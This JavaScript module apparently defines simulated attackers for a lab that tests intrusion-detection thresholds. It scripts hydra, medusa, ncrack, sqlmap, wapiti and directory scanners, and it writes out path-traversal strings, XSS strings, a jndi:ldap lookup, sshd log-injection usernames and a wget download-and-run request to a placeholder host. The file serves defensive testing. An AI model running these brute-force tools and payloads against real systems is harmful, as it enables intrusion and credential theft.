// Those who do not belong here. Most use the tools that real ones use, with small word lists; some stay under every
// threshold on purpose, and two try to turn the defence against a visitor or against whoever reads the logs.
import { readFile } from 'node:fs/promises';
import { ACCOUNTS } from './private-host.mjs';

/** @import { Actor, Presence } from './actor.mjs' */

const WORDS = '/usr/share/dirb/wordlists';
const PASSWORDS = [
  ...[
    '123456',
    'password',
    '12345678',
    'qwerty',
    '123456789',
    '12345',
    '1234',
    '111111',
    '1234567',
    'dragon',
    '123123',
  ],
  ...[
    'baseball',
    'abc123',
    'football',
    'monkey',
    '696969',
    'shadow',
    'master',
    '666666',
    'qwertyuiop',
    '123321',
    'mustang',
  ],
  ...[
    '1234567890',
    'michael',
    '654321',
    'superman',
    '1qaz2wsx',
    '7777777',
    '121212',
    '000000',
    'qazwsx',
    '123qwe',
    'killer',
  ],
  ...[
    'trustno1',
    'jordan',
    'jennifer',
    'zxcvbnm',
    'asdfgh',
    'hunter',
    'buster',
    'soccer',
    'harley',
    'batman',
    'andrew',
  ],
];
const USERS = [
  ...[
    'admin',
    'oracle',
    'postgres',
    'mysql',
    'ubuntu',
    'git',
    'jenkins',
    'ftpuser',
    'nagios',
    'hadoop',
    'user',
    'guest',
  ],
  ...[
    'pi',
    'tomcat',
    'support',
    'deployer',
    'minecraft',
    'teamspeak',
    'www',
    'webmaster',
    'elastic',
    'vagrant',
    'steam',
  ],
];
const PYTHON = 'python-requests/2.31.0';

/** @type {readonly Actor[]} */
export const attackers = [
  attacker('hydra-root', '198.51.100.23', 20, {
    ...{ attack: 'ssh password guessing', scenario: 'ssh-bf', threshold: 'above', attempts: 40 },
    about: 'guesses the password of root with hydra',
    act: async (self) => hydraSsh(self, ['root'], PASSWORDS.slice(0, 40)),
  }),
  attacker('hydra-v6', '2001:db8:66::5', 90, {
    ...{ attack: 'ssh password guessing', scenario: 'ssh-bf', threshold: 'above', attempts: 24 },
    about: 'guesses the password of alice with hydra over IPv6',
    act: async (self) => hydraSsh(self, ['alice'], PASSWORDS.slice(0, 24)),
  }),
  attacker('medusa-users', '203.0.113.61', 40, {
    ...{ attack: 'ssh password guessing', scenario: 'ssh-bf', threshold: 'above', attempts: 30 },
    about: 'guesses passwords of several accounts with medusa',
    act: async (self) => {
      const users = await self.list('users', ['root', 'admin', 'oracle']);
      const passwords = await self.list('passwords', PASSWORDS.slice(0, 10));
      await self.run(['medusa', '-h', self.host, '-U', users, '-P', passwords, '-M', 'ssh', '-t', '2'], {
        timeoutSeconds: 150,
      });
    },
  }),
  attacker('ncrack-git', '192.0.2.86', 100, {
    ...{ attack: 'ssh password guessing', scenario: 'ssh-bf', threshold: 'above', attempts: 30 },
    about: 'guesses the password of git with ncrack',
    act: async (self) => {
      const passwords = await self.list('passwords', PASSWORDS.slice(0, 30));
      const limits = ['-g', 'CL=3,at=3,to=60s'];
      await self.run(['ncrack', '--user', 'git', '-P', passwords, ...limits, `ssh://${self.host}`], {
        timeoutSeconds: 120,
      });
    },
  }),
  attacker('user-lister', '203.0.113.87', 130, {
    ...{ attack: 'ssh user enumeration', scenario: 'ssh-bf', threshold: 'above', attempts: USERS.length },
    about: 'tries one password on many account names',
    act: async (self) => hydraSsh(self, USERS, ['changeme']),
  }),
  attacker('breaks-in', '198.51.100.88', 160, {
    ...{ attack: 'ssh password guessing that succeeds', scenario: 'ssh-bf', threshold: 'above', attempts: 13 },
    about: 'guesses twelve times wrongly, then finds the weak password of the test account',
    act: async (self) => {
      for (const password of [...PASSWORDS.slice(0, 12), ACCOUNTS.test]) await self.sshPassword('test', password, 'id');
    },
  }),
  attacker('patient', '203.0.113.45', 6, {
    ...{ attack: 'slow ssh password guessing', scenario: 'ssh-slow-bf', threshold: 'above', attempts: 24 },
    about: 'one guess every twelve seconds: too slow for the fast scenario, not for the slow one',
    act: async (self) => sshGuesses(self, 'root', PASSWORDS.slice(0, 24), 12),
  }),
  attacker('very-patient', '198.51.100.46', 9, {
    ...{ attack: 'slow ssh password guessing', scenario: 'ssh-slow-bf', threshold: 'below', attempts: 7 },
    about: 'one guess every forty-five seconds, under every threshold',
    act: async (self) => sshGuesses(self, 'root', PASSWORDS.slice(0, 7), 45),
  }),
  ...['203.0.113.201', '198.51.100.202', '192.0.2.203', '203.0.113.204', '2001:db8:66::d5', '198.51.100.206'].map(
    (address, n) =>
      attacker(`botnet-${n + 1}`, address, 50 + 13 * n, {
        ...{ attack: 'distributed ssh password guessing', scenario: 'ssh-bf', threshold: 'below', attempts: 3 },
        about: 'one of six addresses that guess three times each',
        act: async (self) => sshGuesses(self, 'deploy', PASSWORDS.slice(3 * n, 3 * n + 3), 15),
      }),
  ),
  attacker('log-forger', '192.0.2.91', 180, {
    ...{ attack: 'log injection into sshd messages', scenario: 'ssh-bf', threshold: 'above', attempts: 14 },
    about: 'uses account names that read like log text, to have a visitor blocked instead',
    act: async (self) => {
      const victim = '203.0.113.21 port 22 ssh2';
      const names = [
        `root from ${victim}`,
        `x from ${victim}: 11: bye [preauth]`,
        `<script>alert(1)</script> from ${victim}`,
      ];
      for (let guess = 0; guess < 14; guess++) await self.sshPassword(names[guess % names.length] ?? 'root', 'x');
    },
  }),
  attacker('gobuster', '198.51.100.141', 35, {
    ...{ attack: 'web directory scan', scenario: 'http-probing', threshold: 'above', attempts: 600 },
    about: 'looks for hidden folders with gobuster',
    act: async (self) => {
      const words = await wordList(self, 'common.txt', 600);
      const quiet = ['--quiet', '--no-progress', '--no-error', '--threads', '5'];
      await self.run(['gobuster', 'dir', ...quiet, '--url', self.origin, '--wordlist', words], { timeoutSeconds: 90 });
    },
  }),
  attacker('dirb', '203.0.113.143', 120, {
    ...{ attack: 'web directory scan', scenario: 'http-probing', threshold: 'above', attempts: 300 },
    about: "looks for hidden folders with dirb, under a browser's name",
    act: async (self) => {
      const words = await wordList(self, 'small.txt', 300);
      await self.run(['dirb', `${self.origin}/`, words, '-S', '-r', '-w'], { timeoutSeconds: 90 });
    },
  }),
  attacker('ffuf', '2001:db8:66::145', 170, {
    ...{ attack: 'search for backup files', scenario: 'http-probing', threshold: 'above', attempts: 250 },
    about: 'looks for forgotten backups with ffuf over IPv6',
    act: async (self) => {
      const words = await wordList(self, 'big.txt', 250, 4000);
      await self.run(['ffuf', '-s', '-t', '5', '-w', words, '-u', `${self.origin}/FUZZ.php.bak`], {
        timeoutSeconds: 90,
      });
    },
  }),
  attacker('exploit-kit', '192.0.2.147', 75, {
    ...{
      attack: 'probing for known vulnerable programs',
      scenario: 'http-probing',
      threshold: 'above',
      attempts: exploits().length,
    },
    about: 'asks for well-known weak spots, one after the other',
    act: async (self) => oneByOne(self, exploits(), PYTHON, 0.4),
  }),
  attacker('dot-files', '203.0.113.148', 105, {
    ...{ attack: 'probing for secrets', scenario: 'http-probing', threshold: 'below', attempts: 3 },
    about: 'asks for three secret files and goes away',
    act: async (self) => oneByOne(self, ['/.env', '/.git/config', '/.aws/credentials'], PYTHON, 4),
  }),
  attacker('hostile-agent', '198.51.100.149', 190, {
    ...{ attack: 'probing with hostile log content', scenario: 'http-probing', threshold: 'above', attempts: 24 },
    about: 'sends script, terminal escapes and lookups in every field that a log keeps',
    act: async (self) => {
      const agents = [
        '<script>alert(document.domain)</script>',
        '"><img src=x onerror=alert(1)>',
        '\u0024{jndi:ldap://192.0.2.66/a}',
        '\u001b[2J\u001b]0;owned\u0007',
      ];
      for (let request = 0; request < 24; request++) {
        const path = `/${encodeURI('</td><script>alert(1)</script>')}/${request}`;
        await self.curl([path], { agent: agents[request % agents.length] ?? '-', referer: 'javascript:alert(1)' });
      }
    },
  }),
  attacker('sqlmap', '203.0.113.153', 60, {
    ...{ attack: 'SQL injection probing', scenario: 'http-sqli-probing', threshold: 'above' },
    about: 'tries the search with sqlmap',
    act: async (self) => {
      const settings = ['--batch', '--level=1', '--risk=1', '--flush-session', '--disable-coloring'];
      await self.run(['sqlmap', ...settings, '-u', `${self.origin}/search?q=hat`], { timeoutSeconds: 75 });
    },
  }),
  attacker('wapiti', '198.51.100.157', 140, {
    ...{ attack: 'web vulnerability scan', scenario: 'http-sqli-probing', threshold: 'above' },
    about: 'scans the shop for injection and file disclosure with wapiti',
    act: async (self) => {
      const scope = [
        '--scope',
        'folder',
        '-m',
        'sql,file,xss,exec',
        '--max-scan-time',
        '1',
        '--max-links-per-page',
        '20',
      ];
      const target = ['-u', `${self.origin}/download?file=price-list.pdf`, '-s', `${self.origin}/search?q=hat`];
      const report = [
        '-f',
        'json',
        '-o',
        '/run/lab/work/wapiti.json',
        '--flush-session',
        '--store-session',
        '/run/lab/work/wapiti',
      ];
      await self.run(['wapiti', ...target, ...scope, ...report], { timeoutSeconds: 75 });
    },
  }),
  attacker('climber', '192.0.2.159', 85, {
    ...{
      attack: 'path traversal',
      scenario: 'http-path-traversal-probing',
      threshold: 'above',
      attempts: traversals().length,
    },
    about: 'climbs out of the web root, plainly and encoded',
    act: async (self) => oneByOne(self, traversals(), 'Mozilla/5.0', 0.5),
  }),
  attacker('stuffing', '203.0.113.173', 55, {
    ...{ attack: 'credential stuffing', scenario: 'http-generic-bf', threshold: 'above', attempts: 60 },
    about: 'tries leaked pairs on the login form with hydra',
    act: async (self) => {
      const pairs = await self.list(
        'pairs',
        USERS.slice(0, 20).flatMap((user) => PASSWORDS.slice(0, 3).map((word) => `${user}:${word}`)),
      );
      const request = '/login:user=^USER^&password=^PASS^:S=302';
      await self.run(['hydra', '-I', '-t', '4', '-C', pairs, self.host, 'http-post-form', request], {
        timeoutSeconds: 90,
      });
    },
  }),
  attacker('token-guesser', '2001:db8:66::175', 115, {
    ...{ attack: 'credential stuffing', scenario: 'http-generic-bf', threshold: 'above', attempts: 30 },
    about: 'guesses at the token endpoint with a script, over IPv6',
    act: async (self) => httpGuesses(self, '/api/token', PASSWORDS.slice(0, 30), 0.7),
  }),
  attacker('report-guesser', '198.51.100.177', 145, {
    ...{ attack: 'HTTP basic password guessing', scenario: 'http-generic-bf', threshold: 'above', attempts: 40 },
    about: 'guesses the password of the reports with hydra',
    act: async (self) => {
      const passwords = await self.list('passwords', PASSWORDS.slice(0, 40));
      const guess = ['hydra', '-I', '-t', '4', '-l', 'admin', '-P', passwords, self.host, 'http-get', '/reports/'];
      await self.run(guess, { timeoutSeconds: 90 });
    },
  }),
  attacker('slow-stuffing', '192.0.2.179', 18, {
    ...{ attack: 'slow credential stuffing', scenario: 'http-generic-bf', threshold: 'below', attempts: 8 },
    about: 'one login every thirty-five seconds, under every threshold',
    act: async (self) => httpGuesses(self, '/login', PASSWORDS.slice(0, 8), 35),
  }),
];

/** Requests that exploit kits send, in the order of one that was seen on many sites. */
function exploits() {
  return [
    ...[
      '/.env',
      '/.git/config',
      '/wp-login.php',
      '/xmlrpc.php',
      '/phpmyadmin/index.php',
      '/pma/index.php',
      '/manager/html',
    ],
    ...[
      '/solr/admin/info/system',
      '/actuator/env',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/cgi-bin/luci',
    ],
    ...['/boaform/admin/formLogin', '/HNAP1', '/owa/auth/logon.aspx', '/server-status', '/config.json', '/backup.sql'],
    ...[
      '/wp-content/plugins/hello.php',
      '/_ignition/execute-solution',
      '/api/jsonws/invoke',
      '/console/login/LoginForm.jsp',
    ],
    ...[
      '/internal/status',
      '/internal/keys',
      '/shell?cd+/tmp;wget+http://192.0.2.66/x',
      '/setup.cgi?next_file=netgear.cfg',
    ],
  ];
}

/** Ways out of the web root: plain, encoded, doubly encoded, in a parameter. */
function traversals() {
  const targets = ['etc/passwd', 'etc/shadow', 'proc/self/environ'];
  return targets.flatMap((file) => [
    `/../../../../${file}`,
    `/assets/..%2f..%2f..%2f..%2f${file}`,
    `/assets/%2e%2e/%2e%2e/%2e%2e/${file}`,
    `/assets/..%252f..%252f..%252f${file}`,
    `/download?file=../../../../${file}`,
    `/download?file=..%2f..%2f..%2f${file}`,
  ]);
}

/**
 * @param {string} name
 * @param {string} address
 * @param {number} start
 * @param {Pick<Actor, 'about' | 'act'> & Required<Pick<Actor, 'attack' | 'scenario' | 'threshold'>> & Pick<Actor, 'attempts'>} rest
 * @returns {Actor}
 */
function attacker(name, address, start, rest) {
  return { name, address, kind: 'attacker', start, ...rest };
}

/**
 * @param {Presence} self
 * @param {readonly string[]} users
 * @param {readonly string[]} passwords
 */
async function hydraSsh(self, users, passwords) {
  const lists = ['-L', await self.list('users', users), '-P', await self.list('passwords', passwords)];
  const target = self.host.includes(':') ? `ssh://[${self.host}]` : `ssh://${self.host}`;
  await self.run(['hydra', '-I', '-t', '4', ...lists, target], { timeoutSeconds: 150 });
}

/**
 * @param {Presence} self
 * @param {string} user
 * @param {readonly string[]} passwords
 * @param {number} everySeconds
 */
async function sshGuesses(self, user, passwords, everySeconds) {
  for (const password of passwords) {
    await Promise.all([self.sshPassword(user, password), self.pause(everySeconds)]);
  }
}

/**
 * @param {Presence} self
 * @param {string} path
 * @param {readonly string[]} passwords
 * @param {number} everySeconds
 */
async function httpGuesses(self, path, passwords, everySeconds) {
  for (const [n, password] of passwords.entries()) {
    const fields = ['--data-urlencode', `user=${USERS[n % USERS.length]}`, '--data-urlencode', `password=${password}`];
    await self.curl([path], { agent: PYTHON, options: fields });
    await self.pause(everySeconds);
  }
}

/**
 * @param {Presence} self
 * @param {readonly string[]} paths
 * @param {string} agent
 * @param {number} everySeconds
 */
async function oneByOne(self, paths, agent, everySeconds) {
  for (const path of paths) {
    await self.curl([path], { agent });
    await self.pause(everySeconds);
  }
}

/**
 * A part of one of dirb's word lists.
 * @param {Presence} self
 * @param {string} name
 * @param {number} count
 * @param {number} [from]
 */
async function wordList(self, name, count, from = 0) {
  const words = (await readFile(`${WORDS}/${name}`, 'latin1')).split(/\r?\n/).filter((word) => /^[\w.-]+$/.test(word));
  return self.list('words', words.slice(from, from + count));
}
